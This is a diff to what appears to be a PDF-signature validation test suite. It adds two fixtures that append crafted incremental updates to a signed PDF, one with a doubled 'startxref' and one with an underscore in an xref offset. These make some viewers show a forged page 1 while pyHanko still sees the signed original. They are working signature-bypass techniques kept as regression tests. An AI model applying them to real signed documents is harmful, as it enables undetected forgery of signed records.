@@ -346,6 +346,85 @@ def validation_data_listed_twice(build: Path, pki) -> Path:
     return pdf
 
 
+def _forged_first_page(data: bytes, number: int) -> dict[int, bytes]:
+    """Objects that forge page 1 without writing the page: its signed content stream with new text, and its
+    fonts gaining a Helvetica (new object `number`)."""
+    with pikepdf.open(io.BytesIO(data)) as document:
+        page = document.pages[0].obj
+        contents = page.Contents[0] if isinstance(page.Contents, pikepdf.Array) else page.Contents
+        fonts = page.Resources.Font
+        font_number, font_body = fonts.objgen[0], fonts.unparse(resolved=True)
+        content_number = contents.objgen[0]
+    return {content_number: _stream(b"", b"BT /FX 24 Tf 40 500 Td (FORGED APPEAL WITHDRAWN) Tj ET"),
+            number: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+            font_number: font_body.rstrip()[:-2] + b" /FX %d 0 R >>" % number}
+
+
+def _trailer_line(data: bytes, size: int) -> bytes:
+    from pyhanko.pdf_utils.reader import PdfFileReader
+
+    reader = PdfFileReader(io.BytesIO(data), strict=False)
+    trailer = reader.trailer_view
+    return b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
+        size, trailer.raw_get("/Root").idnum, trailer.raw_get("/Info").idnum,
+        reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1))
+
+
+def startxref_twice(build: Path, pki) -> Path:
+    """The last line but one holds two `startxref`s: pyHanko and pypdf read the offset of an empty update, qpdf
+    and poppler the last `startxref` and a table that forges page 1 with the signed objects' numbers, whose
+    bytes lie unreferenced in the update (found by an attacker, issue 17)."""
+    pdf = pdf_of(build)
+    data = pdf.read_bytes()
+    size = _size(data)
+    body, offsets = bytearray(b"\n"), {}
+    for number, content in sorted(_forged_first_page(data, size).items()):
+        offsets[number] = len(data) + len(body)
+        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
+    forged_table = len(data) + len(body)
+    body += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % (number, offset)
+                                                          for number, offset in sorted(offsets.items()))
+    body += _trailer_line(data, size + 1)
+    empty_table = len(data) + len(body)
+    body += b"xref\n0 1\n0000000000 65535 f \n" + _trailer_line(data, size)
+    body += b"startxref startxref %d\n%d\n%%%%EOF\n" % (forged_table, empty_table)
+    pdf.write_bytes(data + bytes(body))
+    return pdf
+
+
+def xref_offset_with_an_underscore(build: Path, pki) -> Path:
+    """An update's table gives an offset as `0_00185851`, which pyHanko's int() reads; qpdf and poppler find
+    the table damaged and rebuild one by scanning the file, where the update restates every object and then
+    forges page 1 (found by an attacker, issue 17)."""
+    pdf = pdf_of(build)
+    data = pdf.read_bytes()
+    size = _size(data)
+    body = bytearray(b"\n")
+    with pikepdf.open(io.BytesIO(data)) as document:
+        for obj in document.objects:
+            if not obj.is_indirect or obj.objgen[0] == 0:
+                continue
+            if isinstance(obj, pikepdf.Stream):
+                if obj.get("/Type") in ("/XRef", "/ObjStm"):
+                    continue
+                raw = obj.read_raw_bytes()
+                dictionary = pikepdf.Dictionary(obj.stream_dict)
+                dictionary.Length = len(raw)
+                content = dictionary.unparse(resolved=True) + b"\nstream\n" + raw + b"\nendstream"
+            else:
+                content = obj.unparse(resolved=True)
+            body += b"%d %d obj\n" % obj.objgen + content + b"\nendobj\n"
+    for number, content in sorted(_forged_first_page(data, size + 1).items()):
+        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
+    orphan = b"%010d" % (len(data) + len(body))
+    body += b"%d 0 obj\n(orphan)\nendobj\n" % size
+    table = len(data) + len(body)
+    body += b"xref\n0 1\n0000000000 65535 f \n%d 1\n" % size + orphan[:1] + b"_" + orphan[2:] + b" 00000 n \n"
+    body += _trailer_line(data, size + 2) + b"startxref\n%d\n%%%%EOF\n" % table
+    pdf.write_bytes(data + bytes(body))
+    return pdf
+
+
 def _dss_rewritten(build: Path, dss: bytes) -> Path:
     pdf = pdf_of(build)
     data = pdf.read_bytes()
